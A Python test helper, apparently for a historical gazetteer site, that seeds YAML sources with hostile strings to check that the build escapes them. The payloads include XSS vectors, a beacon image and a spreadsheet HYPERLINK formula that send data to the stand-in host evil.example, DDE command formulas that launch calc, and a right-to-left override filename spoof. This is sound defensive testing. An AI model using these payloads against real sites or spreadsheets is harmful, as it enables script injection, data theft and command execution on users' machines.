"""One corpus of hostile text for the tests, and a copy of the sources with a payload in every text field.

Each script payload sets its own `window.__xss` value, so a test that finds it set knows which one ran;
`EVIL_HOST` is a host a page must never ask for.
"""

from __future__ import annotations

import itertools
import re
import shutil
import unicodedata
from pathlib import Path

import yaml

EVIL_HOST = "evil.example"
LONG_NAME = "Long" + "x" * 9_992 + "-end"  # 10,000 characters
RLO = "Kuldja \u202egnp.exe"  # a right-to-left override: shows as "Kuldja exe.png"

# name -> payload (the markup ones first: they are shown on pages; the formula ones matter in CSV)
PAYLOADS = {
    "img_onerror": "<img src=x onerror=window.__xss=1>",
    "script_close": "</script><script>window.__xss=2</script>",
    "template": "${window.__xss=3}",
    "backtick": "`${window.__xss=4}`",
    "javascript_url": "javascript:window.__xss=5//",
    "svg_onload": '"><svg onload=window.__xss=6>',
    "single_quote": "'><img src=x onerror=window.__xss=7>",
    "remote_image": f"<img src=http://{EVIL_HOST}/beacon.png>",
    "cdata_break": "]]><script>window.__xss=8</script><![CDATA[",
    "rlo": RLO,
    "long_name": LONG_NAME,
    "hyperlink": f'=HYPERLINK("http://{EVIL_HOST}/?d="&A1,"Click")',
    "plus_cmd": "+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-1+1",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
MARKUP = {k: v for k, v in PAYLOADS.items() if k not in ("long_name", "tab", "carriage_return")}

# The keys of the YAML sources that hold free text (names in every script, variants, notes, quotes,
# references, actors, goods, location text, titles); ids, types, dates and cross-references are left alone.
TEXT_KEYS = {
    "name", "name_ru", "name_kk", "name_zh", "modern_name", "variants", "note", "seat_note", "end_note",
    "start_note", "date_note", "counts_note", "location_text", "location_basis", "who", "what", "text",
    "note_basis", "locator", "quote", "date_text", "authority", "scope", "title", "body", "did", "basis", "admin_1920s",
    "title_ru", "title_en", "general_note_ru", "general_note_en", "goods_ru", "goods_en", "duty_ru", "unit_ru",
    "unit_en", "summary", "place_note",
}  # fmt: skip
# Keys whose value is looked up elsewhere (a place's name resolves relative locations): payload appended.
APPEND_ONLY = {"name", "name_ru", "name_kk", "name_zh", "modern_name"}
APPEND_ONLY |= {"variants", "location_basis"}  # a basis keeps its page's address: the build checks it
NAME_KEYS = APPEND_ONLY


# For a name in Cyrillic (the build refuses names that mix Latin and Cyrillic letters): the markup
# characters without Latin letters.
CYRILLIC_PAYLOAD = '"><свг онлоад=1> ${1} `${2}` </скрипт>'


def _latin(text: str) -> bool:
    return any("LATIN" in unicodedata.name(c, "") for c in text if c.isalpha())


def _cyrillic(text: str) -> bool:
    return any("CYRILLIC" in unicodedata.name(c, "") for c in text if c.isalpha())


def hostile_text(original: str, payload: str, key: str) -> str:
    """The field's new text: the payload alone (so a CSV cell starts with it) or after the original."""
    if key in NAME_KEYS and _cyrillic(original) and _latin(payload):
        payload = CYRILLIC_PAYLOAD
    if key == "quote":  # the build wants 5-30 words: the payload takes the place of the last ones
        words = original.split()
        return " ".join(words[: max(5, len(words) - len(payload.split()))] + [payload])
    if key in APPEND_ONLY or payload in (LONG_NAME, RLO) or "__xss" in original:  # keeps a payload put there before
        return f"{original} {payload}"
    return payload if payload[:1] in FORMULA_PREFIXES else f"{original} {payload}"


# Keys that are a choice from a list in one file, though free text in the others.
NOT_TEXT = {"outposts.yaml": {"what"}, "customs.yaml": {"what"}}


def _poison(value, key: str | None, payloads, serial, keys):
    if isinstance(value, dict):
        poisoned = {k: _poison(v, k, payloads, serial, keys) for k, v in value.items()}
        if isinstance(value.get("variants"), list):  # the plain names still lead to it ("4 km SE of Narynkol")
            plain = {value.get(k) for k in ("name", "modern_name")} - set(value["variants"]) - {None}
            poisoned["variants"] += sorted(n for n in plain if "<" not in n)
        return poisoned
    if isinstance(value, list):
        poisoned = [_poison(v, key, payloads, serial, keys) for v in value]
        # one more variant, unique (a variant leads to one place)
        return [*poisoned, f"{next(payloads)} {next(serial)}"] if key == "variants" else poisoned
    if key == "note" and isinstance(value, str) and re.fullmatch(r"\d+\.\d+", value):
        return value  # a citation's note of a paged document ("6.2"), not a remark
    if isinstance(value, str) and key in keys:
        return hostile_text(value, next(payloads), key)
    return value


def hostile_sources(sources: Path, out: Path) -> Path:
    """A copy of `sources` where every text field carries one of the payloads, in turn."""
    shutil.copytree(sources, out)
    poison(out)
    return out


# Texts of data/texts that reach the reader, the references and their exports.
TEXT_KEYS_OF_TEXTS = {"label", "title", "container-title", "archive", "publisher", "text", "licence_basis"}


def poison_texts(texts: Path) -> None:
    """Put a payload, in turn, in every text of the document records and the parsed notes (data/texts)."""
    for path in sorted(texts.glob("*.yaml")):
        payloads = itertools.cycle(MARKUP.values())
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        poisoned = _poison(data, None, payloads, itertools.count(1), TEXT_KEYS_OF_TEXTS)
        path.write_text(yaml.safe_dump(poisoned, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8")


def poison(sources: Path) -> None:
    """Put one of the payloads, in turn, in every text field of the YAML sources in this folder."""
    for path in sorted(sources.glob("*.yaml")):
        payloads = itertools.cycle(PAYLOADS.values())
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        keys = TEXT_KEYS - NOT_TEXT.get(path.name, set())
        poisoned = _poison(data, None, payloads, itertools.count(1), keys)
        path.write_text(yaml.safe_dump(poisoned, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8")
